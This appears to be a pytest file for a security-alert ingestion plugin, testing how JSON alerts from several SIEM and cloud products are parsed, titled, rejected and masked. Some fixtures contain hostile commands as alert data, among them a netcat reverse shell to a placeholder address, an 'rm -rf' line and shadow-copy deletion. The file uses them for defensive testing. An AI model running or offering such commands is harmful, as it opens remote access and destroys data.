"""JSON alerts: shapes of files, recognised products, and what a broken record costs."""

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from schemas import Alert, Severity, Subject
from secassist.errors import SourceError
from secassist.sources._records import record
from secassist.sources.alert_json import PLUGIN
from secassist.sources.base import Limits, Rejected

ELASTIC = {
    "@timestamp": "2024-05-01T10:00:00.123Z",
    "kibana.alert.rule.name": "Shadow copies deleted",
    "kibana.alert.severity": "high",
    "kibana.alert.rule.threat": [{"technique": [{"id": "T1490", "subtechnique": []}]}],
    "process": {"args": ["vssadmin", "delete", "shadows"], "pid": 42},
}
OCSF = {
    "class_uid": 2004,
    "severity_id": 5,
    "time": 1714557600000,
    "finding_info": {"title": "Beacon", "desc": "Regular calls home", "attacks": [{"technique": {"uid": "T1071.001"}}]},
}
WAZUH = {
    "timestamp": "2024-05-01T10:00:00.000+0000",
    "rule": {"level": 12, "description": "Logon flood", "id": "5712", "mitre": {"id": ["T1110"]}},
    "full_log": "sshd: many failures",
}
SPLUNK = {"search_name": "Rare admin share", "sid": "x", "result": {"_time": "1714557600", "severity": "critical"}}
GRAPH = {
    "title": "Odd sign-in",
    "description": "From a new country",
    "severity": "informational",
    "createdDateTime": "2024-05-01T10:00:00.1234567Z",
    "mitreTechniques": ["T1078", "T1078.004"],
}
GUARDDUTY = {
    "Title": "API called from a listed address",
    "Description": "An API was called",
    "Severity": 8.1,
    "Service": {"ServiceName": "guardduty", "EventFirstSeen": "2024-05-01T10:00:00Z"},
}
SIGMA = {
    "title": "Encoded command",
    "level": "low",
    "tags": ["attack.execution", "attack.t1059.001"],
    "time": "2024-05-01",
}


def read(path: Path, text: str, limits: Limits | None = None) -> list[Subject | Rejected]:
    path.write_text(text, "utf-8")
    return list(PLUGIN.read(path, limits or Limits()))


def places(found: list[Subject | Rejected]) -> list[str]:
    """ "+3" for a subject of line 3, "-4" for a rejection of line 4."""
    return [("-" if isinstance(item, Rejected) else "+") + item.origin.rsplit(":", 1)[1] for item in found]


@pytest.mark.parametrize(
    ("value", "title", "severity", "observed_at", "techniques"),
    [
        (ELASTIC, "Shadow copies deleted", "high", "2024-05-01T10:00:00.123000Z", ("T1490",)),
        (OCSF, "Beacon", "critical", "2024-05-01T10:00:00Z", ("T1071.001",)),
        (WAZUH, "Logon flood", "high", "2024-05-01T10:00:00Z", ("T1110",)),
        (SPLUNK, "Rare admin share", "critical", "2024-05-01T10:00:00Z", ()),
        (GRAPH, "Odd sign-in", "info", "2024-05-01T10:00:00.123456Z", ("T1078", "T1078.004")),
        (GUARDDUTY, "API called from a listed address", "high", "2024-05-01T10:00:00Z", ()),
        (SIGMA, "Encoded command", "low", "2024-05-01T00:00:00Z", ("T1059.001",)),
        ({"x": 1}, "event", None, "", ()),
    ],
)
def test_what_products_say_is_recognised(value, title, severity, observed_at, techniques):
    alert = record(value, "alert_json", "here:1")
    assert (alert.title, alert.reported_severity, alert.observed_at, alert.techniques) == (
        title,
        severity and Severity(severity),
        observed_at,
        techniques,
    )


KUBERNETES = {"kind": "Event", "verb": "list", "objectRef": {"resource": "secrets"}, "user": {"username": "anonymous"}}


@pytest.mark.parametrize(
    ("value", "title"),
    [
        ({"eventType": "user.session.start", "displayMessage": "User login to Okta"}, "User login to Okta"),
        ({"Operation": "FileDownloaded", "UserId": "ana"}, "FileDownloaded"),
        (KUBERNETES, "list secrets by anonymous"),
        (
            {"appDisplayName": "Exchange", "userPrincipalName": "ana@corp.example"},
            "sign-in to Exchange by ana@corp.example",
        ),
        ({"kind": "command", "command": "nc -e /bin/sh 192.0.2.1 4444"}, "nc -e /bin/sh 192.0.2.1 4444"),
        ({"kind": "script", "text": {"command": "#!/bin/sh\n\n# tidy\nrm -rf /var/x\nexit"}}, "rm -rf /var/x"),
        ({"command": "a" * 100 + " " + "b" * 50}, "a" * 100),
        ({"command": "c" * 300}, "event"),
        ({"command": "# nothing"}, "event"),
        ({"method": "GET", "host": "shop.example", "uri": "/a?b=c"}, "GET shop.example/a"),
    ],
)
def test_what_has_no_name_is_called_by_what_was_done(value, title):
    assert record(value, "alert_json", "here:1").title == title


def test_every_leaf_is_a_field_in_order_with_numbers_spelled_as_they_stood(tmp_path):
    text = '{"b": {"c": [1, 2.50, 1e5, {"d": null}]}, "a": true, "e": [], "f": {}, "g": ["x\\ny"]}'
    (alert,) = read(tmp_path / "a.json", text)
    assert isinstance(alert, Alert)
    assert [(field.path, field.value) for field in alert.fields] == [
        ("b.c", "1"),
        ("b.c", "2.50"),
        ("b.c", "1e5"),
        ("b.c.d", "null"),
        ("a", "true"),
        ("e", "[]"),
        ("f", "{}"),
        ("g", "x\ny"),
    ]


def test_the_same_object_gives_the_same_alert_by_file_and_by_intake(tmp_path):
    (by_file,) = read(tmp_path / "a.json", json.dumps(ELASTIC, indent=1))
    assert by_file.id == record(json.loads(json.dumps(ELASTIC)), "alert_json", "api").id


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('[{"a": 1},\n {"a": 2}]', ["+1", "+2"]),
        ('{"alerts": [{"a": 1},\n{"a": 2}], "total": 2}', ["+1", "+2"]),
        (
            '{"took": 1, "hits": {"total": 2, "hits": [\n{"_source": {"a": 1}},\n{"_source": {"a": 2}}]}}',
            ["+2", "+3"],
        ),
        ('{"value": [{"a": 1}], "@odata.context": "x"}', ["+1"]),
        ('{"title": "incident", "alerts": [{"a": 1}, {"a": 2}]}', ["+1"]),
        ('{"meta": {"pagination": {"total": 2}}, "resources": [{"a": 1},\n{"a": 2}], "errors": []}', ["+1", "+2"]),
        (
            '{"preview": false, "init_offset": 0, "messages": [], "fields": [{"name": "a"}], "results": [{"a": 1}]}',
            ["+1"],
        ),
        ('{"preview": false, "results": [{"a": 1},\n{"a": 2}], "highlighted": {}}', ["+1", "+2"]),
        ('{"data": [{"a": 1},\n{"a": 2}], "pagination": {"totalItems": 2}}', ["+1", "+2"]),
        ('{"reply": {"total_count": 2, "alerts": [{"a": 1},\n{"a": 2}]}}', ["+1", "+2"]),
        ('{"code": 0, "msg": "ok", "data": {"total": 2, "list": [{"a": 1},\n{"a": 2}]}}', ["+1", "+2"]),
        ('{"code": 403, "msg": "upload of a web shell", "data": [{"a": 1},\n{"a": 2}]}', ["+1"]),
        ('{"message": "upload of a web shell", "data": [{"a": 1},\n{"a": 2}]}', ["+1"]),
        ('{"resources": ["arn:1", "arn:2"]}', ["+1"]),
        ('{\n  "a": 1\n}\n{\n  "a": 2\n}\n', ["+1", "+4"]),
        ('{"a": 1}{"a": 2}\n', ["+1", "+1#2"]),
        ('{"a": 1}\n{"a": \n{"a": 3}\n', ["+1", "-2", "+3"]),
        ('[\n {"a": 1},\n {"a": },\n {"a": 3}\n]', ["+2", "-3", "+4"]),
        ('[{"a": 1},\n{"a": 2}', ["+1", "+2", "-2"]),
        ('{"alerts": [\n{"a": 1},\n{"a": 2},\n{"a": tru', ["+2", "+3", "-4"]),
        ('{"hits": {"hits": [\n{"_source": {"a": 1}}\n]', ["+2"]),
        ('{"alerts": [\n{"a": 1}\n]}', ["+2"]),
        ('{\n "a": {\n  "b": [1, 2\n', ["-1"]),
        ("nothing here is JSON\n", ["-1"]),
        ("[]", []),
    ],
)
def test_shapes_of_files(tmp_path, text, expected):
    assert places(read(tmp_path / "in.json", text)) == expected


def test_records_of_one_line_have_places_of_their_own(tmp_path):
    (tmp_path / "a.json").write_text('[{"a": 1}, {"a": 2}, 3, {"a": 4},\n{"a": 5}]')
    found = list(PLUGIN.read(tmp_path / "a.json", Limits()))
    assert [item.origin.rpartition(":")[2] for item in found] == ["1", "1#2", "1#3", "1#4", "2"]
    alone = record({"a": 2}, "alert_json", "elsewhere")
    assert found[1].id == alone.id, "the place is no part of what it is"


def test_an_elasticsearch_hit_is_its_source_with_the_rest_kept():
    alert = record({"_index": "i", "_source": {"rule": {"name": "R"}}}, "alert_json", "x")
    assert alert.title == "R"
    assert [field.path for field in alert.fields] == ["rule.name", "_index"]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ('{"a": 1, "a": 2}', "'a' stands twice"),
        ('{"a": {"b": [{"c": 1, "c": 1}]}}', "'c' stands twice"),
        ('{"a": NaN}', "NaN is not JSON"),
        ('{"a": -Infinity}', "-Infinity is not JSON"),
        ('{"a": ' * 40 + "1" + "}" * 40, "nested more than 32"),
        ('{"a": ' * 9_000, "nested too deep"),
        (json.dumps({f"k{number}": 1 for number in range(2_001)}), "more than 2000 fields"),
        (json.dumps([1, 2]) + "\n", "not an object"),
        ('{"a": "' + "x" * 1_100_000 + '"}', "more than 1048576 characters"),
        ("{}", "empty"),
        ('{"a": "b\x01"}', "not valid JSON"),
    ],
)
def test_a_bad_record_is_rejected_by_name_and_the_rest_goes_on(tmp_path, text, reason):
    found = read(tmp_path / "in.jsonl", f'{{"first": 1}}\n{text}\n{{"last": 1}}\n')
    assert isinstance(found[0], Alert) and isinstance(found[-1], Alert)
    rejected = [item for item in found if isinstance(item, Rejected)]
    assert rejected
    assert rejected[0].origin == f"{tmp_path}/in.jsonl:2"
    assert any(reason in item.reason or "longer than" in item.reason for item in rejected)


def test_what_an_attacker_can_put_into_a_value_does_not_cost_the_alert(tmp_path):
    path = tmp_path / "in.jsonl"
    path.write_bytes('{"é": "ééé"}\n'.encode() + b'{"agent": "\xff", "b": "\\ud800", "c": "\\u0000"}\n')
    _, alert = PLUGIN.read(path, Limits())
    assert isinstance(alert, Alert)
    assert [field.value for field in alert.fields] == ["\\xff", "\\ud800", "\\x00"]


def test_a_document_above_the_limit_is_an_error_that_names_it(tmp_path):
    with pytest.raises(SourceError, match=r"in\.json.*SECASSIST_FILE_MEGABYTES"):
        read(tmp_path / "in.json", "[" + '{"a": 1},\n' * 200 + "]", Limits(file_bytes=1_000))


def test_json_lines_are_streamed_whatever_the_size_of_the_file(tmp_path):
    found = read(tmp_path / "in.jsonl", '{"a": 1}\n' * 300, Limits(file_bytes=1_000))
    assert len(found) == 300


def test_a_naive_time_is_utc_and_nonsense_is_none():
    assert record({"time": "2024-05-01 10:00:00"}, "s", "o").observed_at == "2024-05-01T10:00:00Z"
    assert record({"time": "99999999999999999999"}, "s", "o").observed_at == ""
    assert record({"time": "soon"}, "s", "o").observed_at == ""
    micro = int(datetime(2024, 5, 1, tzinfo=UTC).timestamp() * 1e6)
    assert record({"time": micro}, "s", "o").observed_at == "2024-05-01T00:00:00Z"


def test_intake_refuses_what_json_cannot_hold():
    for value in ({"a": {1, 2}}, {1: "a"}, {"a": float("nan")}, {}):
        with pytest.raises(SourceError):
            record(value, "s", "o")  # type: ignore[arg-type]


INVENTED = "Wq9vInventedPl4usibleZz83kQpLm72xTrBn5Yw"
PEM = "-----BEGIN PRIVATE KEY-----\n" + "Q2hhbmdlZEludmVudGVk" * 60 + "\n-----END PRIVATE KEY-----"


@pytest.mark.parametrize("before", range(140, 200, 7))
def test_a_title_or_description_holds_no_part_of_a_secret(before):
    """What is cut could not be told for a secret when it is masked."""
    words = ("word " * 200)[:before] + " "
    for name, more in (("message", 0), ("description", 300)):
        text = "more " * (more // 5) + words
        for secret in (INVENTED, PEM):
            alert = record({name: text + secret + " tail", "host": "a"}, "alert_json", "here:1")
            kept = alert.title.replace(secret, "") + alert.description.replace(secret, "")
            assert secret[:4] not in kept and "Q2hhbm" not in kept
            assert len(alert.title) <= 200 and len(alert.description) <= 500


def test_a_chinese_description_keeps_its_length():
    alert = record({"description": "发现可疑登录" * 100}, "alert_json", "here:1")
    assert len(alert.description) == 500


@pytest.mark.parametrize("value", ["-----BEGIN RSA PRIVATE KEY-----\nQ2hhbm\n-----END RSA PRIVATE KEY-----", "x" * 600])
def test_what_leaves_nothing_to_say_is_an_event(value):
    assert record({"message": value}, "alert_json", "here:1").title == "event"


@pytest.mark.parametrize(
    ("value", "title"),
    [
        ({"policy": "Geo block", "src": "192.0.2.1"}, "Geo block"),
        ({"event": "Log4j", "src": "192.0.2.1"}, "Log4j"),
        ({"raw": "POST /login.do?password=1 HTTP/1.1\nHost: a.example"}, "POST /login.do"),
        ({"请求报文": "GET /a HTTP/1.1\nHost: a.example"}, "GET /a"),
        ({"告警类型": "弱口令", "src": "192.0.2.1"}, "弱口令"),
    ],
)
def test_a_record_without_a_name_is_called_by_what_it_has(value: dict[str, str], title: str) -> None:
    assert PLUGIN.alert(value, "a:1", Limits()).title == title
